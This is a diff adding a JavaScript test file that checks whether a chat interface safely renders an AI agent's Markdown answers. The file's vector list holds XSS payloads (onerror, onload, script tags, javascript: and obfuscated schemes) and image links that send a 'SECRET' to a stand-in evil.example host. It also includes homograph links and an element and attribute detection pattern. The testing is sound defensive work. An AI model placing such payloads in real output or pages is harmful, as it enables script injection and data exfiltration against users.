@@ -1,0 +1,109 @@
+// Markdown that attacks: nothing runs, nothing is fetched, nothing is posted, nothing leads anywhere but through the host.
+import assert from "node:assert/strict";
+import { existsSync, readFileSync } from "node:fs";
+import { parts, snapshot } from "./script.mjs";
+
+const own = [
+	"![x](https://evil.example/?d=SECRET)",
+	"![x](//evil.example/x.png) ![y](http://evil.example/y.svg 'title') ![z](data:image/svg+xml;base64,PHN2Zy8+)",
+	"<img src=https://evil.example/x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script>",
+	"<iframe src='https://evil.example'></iframe><object data=x></object><embed src=x><base href='https://evil.example/'>",
+	"[a](javascript:alert(1)) [b](command:workbench.action.quit) [c](vscode://x/y) [d](file:///etc/passwd) [e](data:text/html,x) [f](blob:x)",
+	"[a](java\tscript:alert(1)) [b](&#106;avascript:alert(1)) [c](\u0001javascript:alert(1)) [d](//evil.example) [e](https:evil.example)",
+	"[a](https://github.com@evil.example/) [b](https:\\\\evil.example) [c](http://evil.example\\@github.com) <https://user:pw@evil.example>",
+	"<a href='command:x' onclick=alert(1)>x</a> <form action='https://evil.example'><button formaction='command:x'>Allow</button></form>",
+	"<style>@import url(https://evil.example)</style><link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
+	"<div id=root class='primary card' style='position:fixed;inset:0'>Approve</div><math><mi xlink:href='command:x'>x</mi></math>",
+	"<button data-url='https://evil.example' class='code-copy'>x</button><a data-url='https://evil.example'>y</a>",
+	'```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
+	"```js class=primary id=root\nconst a = '<img src=https://evil.example>';\n```",
+	"| <img src=x onerror=alert(1)> | [x](command:y) |\n|---|---|\n| <script>alert(1)</script> | ![x](https://evil.example) |",
+	"[x]: javascript:alert(1)\n\n[x] [y][x]\n\n[__proto__]: https://evil.example\n\n[__proto__] [constructor]",
+	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><img src=https://evil.example></template>',
+	"<!--<img src=https://evil.example>--><![CDATA[<img src=x onerror=alert(1)>]]><?php x ?>",
+];
+
+/** Runs in the page: what of the rendered answer could act. */
+function inspect() {
+	const host = document.querySelector(".from-agent .markdown");
+	const all = [...(host?.querySelectorAll("*") ?? [])];
+	const complaints = [];
+	for (const element of all) {
+		const name = element.localName;
+		if (/^(?:script|style|iframe|object|embed|form|input|svg|math|link|meta|base|template|audio|video|source)$/.test(name))
+			complaints.push(name);
+		if (name === "button" && !element.matches(".code > .code-bar > .code-copy")) complaints.push("button");
+		if (name === "img" && !element.getAttribute("src")?.startsWith("data:image/")) complaints.push("remote picture");
+		for (const { name: attribute, value } of element.attributes) {
+			if (/^on|^(?:style|id|href|srcset|formaction|name|for)$/i.test(attribute)) complaints.push(`${name} ${attribute}=${value}`);
+			if (attribute === "data-url" && !/^https?:\/\/[^@\\]+$/.test(value)) complaints.push(`link to ${value}`);
+			if (attribute === "class" && !/^(?:hljs-|language-|function_|class_|inherited__|code|table|block|link-|icon-button)/.test(value))
+				complaints.push(`class ${value}`);
+		}
+	}
+	return { complaints, links: all.filter((element) => element.matches("[data-url]")).length };
+}
+
+export function attacks(test, open) {
+	const file = "../shared/vectors/markdown.json";
+	const shared = existsSync(file) ? JSON.parse(readFileSync(file, "utf8")).map(({ id, markdown }) => [id, markdown]) : [];
+	const vectors = [...own.map((markdown, index) => [`own-${index + 1}`, markdown]), ...shared];
+
+	for (const way of ["whole", "streamed", "from the person"]) {
+		test(`hostile Markdown does nothing, ${way} (${vectors.length} vectors)`, async () => {
+			const { chat, send, posted, errors, requests } = await open();
+			for (const [id, markdown] of vectors) {
+				const { event, user, started, model } = parts;
+				void event;
+				const head = [user("x"), started("planner")];
+				const update =
+					way === "whole"
+						? snapshot([...head, model({ text: markdown })])
+						: way === "streamed"
+							? snapshot(head, {}, markdown)
+							: snapshot([...head, user(markdown), model({ text: "ok" })]);
+				const first = update.events[0].seq - 1;
+				for (const item of update.events) item.seq -= first;
+				await posted();
+				await send(update);
+				await chat.waitForFunction(
+					(count) => document.querySelectorAll(".message").length >= count,
+					way === "from the person" ? 3 : way === "streamed" && !markdown.trim() ? 1 : 2,
+				);
+				const { complaints } = await chat.evaluate(inspect);
+				assert.deepEqual(complaints, [], id);
+				assert.deepEqual(await posted(), [], `${id} posted`);
+			}
+			assert.deepEqual(requests, []);
+			assert.deepEqual(errors, []);
+		});
+	}
+
+	test("a link shows its host when its words name another, and a click only asks the host", async () => {
+		const { chat, send, posted } = await open();
+		await send(
+			snapshot([
+				parts.model({
+					text: "[https://github.com](https://evil.example/?a=b) [docs](https://nodejs.org/api) https://example.com/x [aррӏе](https://аррӏе.com/)",
+				}),
+			]),
+		);
+		const links = chat.getByRole("link");
+		assert.deepEqual(await links.allTextContents(), [
+			"https://github.com (evil.example)",
+			"docs (nodejs.org)",
+			"https://example.com/x",
+			"aррӏе (xn--80ak6aa92e.com)",
+		]);
+		assert.equal(await chat.locator(".link-differs").count(), 1);
+		await posted();
+		await links.nth(0).click();
+		await links.nth(1).press("Enter");
+		assert.deepEqual(await posted(), [
+			{ type: "openLink", url: "https://evil.example/?a=b", text: "https://github.com (evil.example)" },
+			{ type: "openLink", url: "https://nodejs.org/api", text: "docs (nodejs.org)" },
+		]);
+		await links.nth(2).evaluate((link) => link.click());
+		assert.deepEqual(await posted(), [], "a click made by a script");
+	});
+}
